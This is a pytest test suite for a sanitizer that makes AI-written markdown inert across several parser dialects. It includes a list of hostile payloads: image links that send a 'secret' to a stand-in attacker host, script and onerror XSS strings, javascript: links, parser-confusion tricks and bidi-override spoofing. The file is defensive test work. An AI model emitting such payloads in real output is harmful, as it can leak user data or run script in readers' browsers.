"""What a model wrote can be read and nothing else: no image is loaded, no link offered, no tag obeyed."""

import time
from collections.abc import Iterable, Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from mdit_py_plugins.dollarmath import dollarmath_plugin
from mdit_py_plugins.footnote import footnote_plugin

from backend.app.services.inert_markdown import InertWriter
from backend.app.services.markdown_units import UnitSplitter

DIALECTS = {
    "CommonMark": MarkdownIt("commonmark"),
    "with tables": MarkdownIt("commonmark").enable(["table", "strikethrough"]),
    "with formulas": MarkdownIt("commonmark").enable("table").use(dollarmath_plugin),
    "with footnotes": MarkdownIt("commonmark").enable("table").use(footnote_plugin),
    "without indented code": MarkdownIt("commonmark").disable("code"),
    "without indented code, with formulas": MarkdownIt("commonmark").disable("code").use(dollarmath_plugin),
}
for dialect in DIALECTS.values():
    dialect.validateLink = lambda url: True  # the library itself refuses javascript: and data:
ACTIVE = {"image", "link_open", "html_inline", "html_block"}


def make_inert(text: str, sources: Iterable[str]) -> str:
    """A whole text, shown unit by unit as an answer is. `sources` are the texts whose addresses may stay."""
    splitter, writer = UnitSplitter(), InertWriter(sources)
    units = [*splitter.feed(text), *splitter.finish()]
    return "".join(writer.add(unit.text, is_block=unit.is_block) for unit in units)


def active(tokens: list[Token]) -> Iterator[str]:
    for token in tokens:
        if token.type in ACTIVE and not token.meta.get("id"):  # a footnote's own way back
            yield token.type
        yield from active(token.children or [])


def is_inert(text: str) -> bool:
    return not any(list(active(dialect.parse(text))) for dialect in DIALECTS.values())


PAYLOADS = [
    "[```](x)\ntext\n```\n![x](https://evil.example)\n```",  # a fence may open when a link loses its markup
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/a.png",
    "![x]\n\n[x]: <https://evil.example>",
    "[click](https://evil.example)",
    "[click](//evil.example)",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "[a [b](https://evil.example) c](https://evil.example)",
    "<https://evil.example>",
    "<reader@evil.example>",
    "<img src=https://evil.example onerror=alert(1)>",
    "<IMG\nSRC=x>",
    "<script>alert(1)</script>",
    "</p><iframe src=x>",
    "<!-- -->",
    "<?php ?>",
    "<![CDATA[x]]>",
    "<div>\n\n![x](y)\n\n</div>",
    "# [title](https://evil.example)",
    "> ![x](https://evil.example)",
    "- item\n  ![x](https://evil.example)",
    "- ```\n![x](https://evil.example)\n",
    "> ```\n![x](https://evil.example)\n```",
    "\\`![x](https://evil.example)`",
    "a ` b\n` ![x](https://evil.example) `",
    "| a ` | b ` c ` ![x](https://evil.example) ` |\n|---|---|",
    "$`$ ![x](https://evil.example) `",
    "$$\n```\n$$\n![x](https://evil.example)\n```",
    "$$\n```\n$$\n![a](b)\n```\n![x](https://evil.example)",
    "    ```\n\n![x](https://evil.example)\n\n    ```",
    "```![x](https://evil.example)\\|a|b|\n|-|-|\n",  # a fence, or the head of a table
    "~~~a|b\n-|-\n![x](https://evil.example)|c\n~~~",
    "[^1]: ```\n\n    ![x](https://evil.example)\n\n[^1]",
    "`` ` ![x](https://evil.example)",
    "[a]\\(b) ![x](https://evil.example)",
    "[a](<https://evil.example>)",
    "[a\n](https://evil.example)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "A node computes. {} It ends.", "```python\nx = 1\n```\n\n{}", "1. {}"])
def test_no_dialect_finds_anything_active(payload: str, around: str) -> None:
    assert is_inert(make_inert(around.format(payload), []))


def test_the_payloads_are_active_as_they_are() -> None:
    assert not [payload for payload in PAYLOADS if is_inert(payload)]


PIECES = [
    *("![x](y)", "[a](b)", "[r]", "[r]: z", "<b>", "<!--", "-->", "</b>", "<https://e.example>", "https://e.example"),
    *(
        "`",
        "``",
        "```",
        "~~~",
        "$",
        "$$",
        "|",
        "|-|-|",
        "\n|-|-|\n",
        "\\",
        "*",
        "> ",
        "- ",
        "1. ",
        "    ",
        "\n",
        "\n",
        "\n\n",
    ),
    *(" ", "word", "[^1]", "[^1]: ", "\t", ":::"),
]


@given(st.lists(st.sampled_from(PIECES), max_size=14))
@settings(max_examples=1_500, deadline=None)
def test_no_assembly_of_pieces_is_active(pieces: list[str]) -> None:
    assert is_inert(make_inert("".join(pieces), []))


@given(st.lists(st.sampled_from([piece for piece in PIECES if "http" not in piece]), max_size=14))
@settings(max_examples=300, deadline=None)
def test_nothing_but_spaces_is_added(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert make_inert(text, []).replace(" ", "") == text.replace(" ", "")


@pytest.mark.parametrize(
    "text",
    [
        "A **node** computes: see *topics* and `rclpy.init()`. [1] a < b, x[0] (y)",
        "Use `std::vector<int>` and ``a ` b[0](c)`` here.",
        "First:\n\n```cpp\n#include <vector>\nhandlers[0](x); // https://e.example\n```\n\nThen `<launch>`.",
        '1. Run:\n\n   ```xml\n   <robot name="arm"/>\n   ```\n2. Look.',
        "~~~\n[a](b)\n~~~\n",
        "The force is $F = ma$ and $a < b$.",
        "",
    ],
)
def test_prose_and_code_stay_as_they_are(text: str) -> None:
    assert make_inert(text, []) == text


def test_an_address_stays_only_when_a_passage_has_all_of_it() -> None:
    book = ["Read https://docs.example/ros. Then (www.book.example/a)."]
    assert make_inert("See https://docs.example/ros, www.book.example/a!", book) == (
        "See https://docs.example/ros, www.book.example/a!"
    )
    assert make_inert("See https://docs.example/ro or HTTPS://evil.example?q=1.", book) == "See … or …."


@pytest.mark.parametrize(
    "piece", ["<a", "[", "](", "`", "`a``", "`a. ", "a. B ", "> ", "- ", "![](", "$", "|", "\\`", "```\n", "[x]: "]
)
def test_a_hostile_answer_costs_no_time(piece: str) -> None:
    text = (piece * 20_000)[:20_000] + "<a"
    started = time.process_time()
    make_inert(text, [])
    assert time.process_time() - started < 1


def test_no_override_makes_words_read_as_others_than_they_are() -> None:
    shown = make_inert("Send it to \u202emoc.live\u202c now.\n\n```\nrm \u202dx\n```\n\u2067اردو\u2069 stays.\n", [])
    assert not set("\u202a\u202b\u202c\u202d\u202e") & set(shown)
    assert "\u2067اردو\u2069 stays." in shown
